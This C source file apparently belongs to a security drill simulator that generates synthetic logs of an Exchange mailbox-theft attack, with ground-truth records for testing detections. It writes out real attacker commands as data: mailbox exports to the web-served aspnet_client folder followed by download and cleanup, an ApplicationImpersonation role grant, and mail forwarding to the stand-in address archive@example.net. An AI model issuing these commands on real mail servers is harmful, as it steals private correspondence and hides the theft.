// Attacks: what is taken from mailboxes
// SPDX-License-Identifier: Apache-2.0
#include "drill/attack_exchange.h"

#include <string.h>

static uint32_t pick_person(struct attack *attack, uint32_t number) {
    const struct organisation *organisation = attack->organisation;
    uint32_t seen = 0, last = DEED_NO_ACCOUNT;
    for (uint32_t i = 0; i < organisation->account_count; i++) {
        const struct account *account = &organisation->accounts[i];
        if (account->kind != PERSON_EXECUTIVE && account->kind != PERSON_DEVELOPER)
            continue;
        last = i;
        if (seen++ == number)
            break;
    }
    return last;
}

static struct slice mail_address(struct attack *attack, uint32_t number) {
    const struct organisation *organisation = attack->organisation;
    const struct account *account = &organisation->accounts[number];
    struct slice text = attack_text(attack, "%s@%s", account->name,
                                    organisation->companies[account->company].domain);
    truth_add_thing(attack->options->truth, attack->number, TRUTH_NAME, text);
    return text;
}

// Every second mailbox is large: then only some of its months.
void attack_export_mailboxes(struct attack *attack) {
    uint32_t host = attack_target(attack, HOST_MAIL), count = attack_count(attack, 4);
    if (host == DEED_NO_HOST || attack->stolen_account == DEED_NO_ACCOUNT)
        return;
    uint32_t step = attack_open_step(attack, host, DEED_NO_HOST, attack->now_ns);
    for (uint32_t i = 0; i < count; i++) {
        uint32_t person = pick_person(attack, i);
        if (person == DEED_NO_ACCOUNT)
            return;
        uint64_t bytes = attack_share(attack->step->bytes, i, count);
        int64_t at = attack_moment(attack, i, count);
        struct slice mailbox = mail_address(attack, person);
        struct slice file = attack_text(attack, "m%u.pst", (unsigned)i);
        const char *range = i % 2 ? " -ContentFilter \"(Received -ge '12/01/2025') -and (Received "
                                    "-le '03/01/2026')\""
                                  : "";
        attack_run_cmdlet(attack, step, host, at, "New-MailboxExportRequest",
                          attack_text(attack,
                                      "-Mailbox \"%.*s\" -FilePath \"\\\\127.0.0.1\\C$\\inetpub\\"
                                      "wwwroot\\aspnet_client\\%.*s\"%s",
                                      (int)mailbox.size, (const char *)mailbox.data, (int)file.size,
                                      (const char *)file.data, range));
        struct deed *get = attack_ask(
            attack, step, host, at + 20 * ATTACK_MINUTE,
            attack_text(attack, "/aspnet_client/%.*s", (int)file.size, (const char *)file.data));
        get->web.response_bytes = bytes;
        get->web.taken_ms = 90000;
        truth_extend_step(attack->options->truth, step, at + 20 * ATTACK_MINUTE, bytes);
        attack_run_cmdlet(attack, step, host, at + 26 * ATTACK_MINUTE,
                          "Remove-MailboxExportRequest", SLICE("-Confirm:$false"));
    }
}

void attack_read_mail(struct attack *attack) {
    static const char *const actions[] = {"FindItem", "GetItem", "GetItem", "GetAttachment"};
    uint32_t host = attack_target(attack, HOST_MAIL), count = attack_count(attack, 5);
    uint32_t calls = count * 12;
    if (host == DEED_NO_HOST || attack->stolen_account == DEED_NO_ACCOUNT)
        return;
    uint32_t step = attack_open_step(attack, host, DEED_NO_HOST, attack->now_ns);
    attack_run_cmdlet(attack, step, host, attack->now_ns - ATTACK_MINUTE,
                      "New-ManagementRoleAssignment",
                      attack_text(attack, "-Role \"ApplicationImpersonation\" -User \"%s\"",
                                  attack->organisation->accounts[attack->stolen_account].name));
    for (uint32_t i = 0; i < calls; i++) {
        uint32_t person = pick_person(attack, i % count);
        int64_t at = attack_moment(attack, i, calls);
        if (person == DEED_NO_ACCOUNT)
            return;
        struct slice mailbox = mail_address(attack, person);
        struct deed *deed = attack_add(attack, DEED_MAILBOX_ACCESS, step, host, at);
        attack_from_outside(attack, deed);
        deed->to.port = 443;
        deed->account = attack->stolen_account;
        deed->mailbox.action =
            slice_of_string(actions[dice_below(&attack->dice, ARRAY_SIZE(actions))]);
        deed->mailbox.mailbox = deed->mailbox.impersonated = mailbox;
        deed->mailbox.agent = SLICE("ExchangeServicesClient/0.0.0.0");
        deed->mailbox.status = 200;
        deed->mailbox.item_count = (uint32_t)attack_share(attack->step->items, i, calls);
        deed->mailbox.request_bytes = 1900;
        deed->mailbox.response_bytes = attack_share(attack->step->bytes, i, calls);
        deed->mailbox.taken_ms = 80 + dice_below(&attack->dice, 700);
        truth_extend_step(attack->options->truth, step, at, deed->mailbox.response_bytes);
    }
}

void attack_forward_mail(struct attack *attack) {
    uint32_t host = attack_target(attack, HOST_MAIL), count = attack_count(attack, 2);
    if (host == DEED_NO_HOST || attack->stolen_account == DEED_NO_ACCOUNT)
        return;
    uint32_t step = attack_open_step(attack, host, DEED_NO_HOST, attack->now_ns);
    for (uint32_t i = 0; i < count; i++) {
        uint32_t person = pick_person(attack, i);
        if (person == DEED_NO_ACCOUNT)
            return;
        struct slice mailbox = mail_address(attack, person);
        attack_run_cmdlet(attack, step, host, attack_moment(attack, i, count), "Set-Mailbox",
                          attack_text(attack,
                                      "-Identity \"%.*s\" -ForwardingSmtpAddress "
                                      "\"smtp:archive@example.net\" -DeliverToMailboxAndForward "
                                      "$true",
                                      (int)mailbox.size, (const char *)mailbox.data));
    }
    truth_add_thing(attack->options->truth, attack->number, TRUTH_ACCOUNT,
                    SLICE("archive@example.net"));
}
